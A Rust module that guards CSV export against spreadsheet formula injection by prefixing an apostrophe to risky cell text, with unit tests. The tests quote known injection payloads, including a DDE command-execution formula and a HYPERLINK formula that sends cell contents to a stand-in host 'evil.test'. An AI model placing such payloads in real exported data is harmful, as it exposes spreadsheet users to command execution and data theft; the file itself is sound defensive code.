//! Making text harmless for spreadsheets.
//!
//! Excel, LibreOffice and others run a cell that begins with `=`, `+`, `-`, `@` as a formula,
//! quoted or not (CWE-1236). A leading `'` makes it text. Readers set to semicolons or tabs
//! ignore our quotes and split inside a text; there, too, no piece may begin as a formula.

use std::borrow::Cow;

/// What begins a formula, with the full-width forms some programs fold to ASCII.
const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
/// What other readers split at, inside a text.
const SEPARATORS: [char; 4] = [';', '\t', '\r', '\n'];
/// Put before what could run.
const GUARD: char = '\'';

/// The text with a `'` before its start, and after each separator inside, where a formula
/// could begin. Text without any comes back as it is.
pub(super) fn harmless(text: &str) -> Cow<'_, str> {
    let has_separator = any_byte(text, |byte| matches!(byte, b';' | b'\t' | b'\r' | b'\n'));
    let first = text.chars().next();
    // Nearly all texts begin with a letter or digit and are of one piece.
    if !has_separator && first.is_none_or(|c| c.is_ascii_alphanumeric()) {
        return text.into();
    }
    let guard_start = first.is_some_and(|c| matches!(c, '\t' | '\r' | '\n' | '\0')) || begins_formula(text);
    let guard_inside = has_separator && text.match_indices(SEPARATORS).any(|(at, _)| needs_guard(text, at));
    if !guard_start && !guard_inside {
        return text.into();
    }
    let mut safe = String::with_capacity(text.len().saturating_add(8));
    if guard_start {
        safe.push(GUARD);
    }
    for (at, c) in text.char_indices() {
        safe.push(c);
        if SEPARATORS.contains(&c) && needs_guard(text, at) {
            safe.push(GUARD);
        }
    }
    safe.into()
}

/// Whether a byte of the text is one of these. It reads on after one is found: without
/// a way out the compiler looks at many bytes at once.
pub(super) fn any_byte(text: &str, is_one: impl Fn(u8) -> bool) -> bool {
    text.bytes().fold(false, |found, byte| found | is_one(byte))
}

/// Whether a piece that begins after the separator at `at` could run.
fn needs_guard(text: &str, at: usize) -> bool {
    // All separators are one byte long.
    text.get(at.saturating_add(1)..).is_some_and(begins_formula)
}

/// Spreadsheets skip blanks, and a reader that splits inside our text drops its quotes.
fn begins_formula(piece: &str) -> bool {
    let skipped = |c: char| c.is_whitespace() || c.is_control() || c == '"' || c == '\u{FEFF}';
    piece.trim_start_matches(skipped).starts_with(FORMULA)
}

#[cfg(test)]
mod tests {
    use super::harmless;

    fn check(text: &str, safe: &str) {
        assert_eq!(harmless(text), safe, "{text:?}");
    }

    #[test]
    fn a_text_that_would_run_gets_a_leading_apostrophe() {
        // The payloads of OWASP's "CSV Injection" page and of CWE-1236, and the full-width forms.
        check("=1+1", "'=1+1");
        check("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0");
        check(
            "=HYPERLINK(\"http://evil.test?x=\"&A1,\"Error\")",
            "'=HYPERLINK(\"http://evil.test?x=\"&A1,\"Error\")",
        );
        check("+1-1", "'+1-1");
        check("-1+1", "'-1+1");
        check("@SUM(1,1)", "'@SUM(1,1)");
        check("＝1+1", "'＝1+1");
        check("\t=1+1", "'\t'=1+1");
        check("\rx", "'\rx");
        check("\nx", "'\nx");
        check("\0=1", "'\0=1");
        check("  =1+1", "'  =1+1");
        check("\"=1+1", "'\"=1+1");
    }

    #[test]
    fn a_formula_after_another_readers_separator_is_guarded() {
        check("a;=1+1", "a;'=1+1");
        check("a\t=1+1", "a\t'=1+1");
        check("a\n- point\n- point", "a\n'- point\n'- point");
        check("a; \"=1+1", "a;' \"=1+1");
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for text in ["", "Zorg voor jou", "A = B", "a; b", "line\nline", "5 - 3", "O'Neill", "care@home"] {
            check(text, text);
        }
    }
}
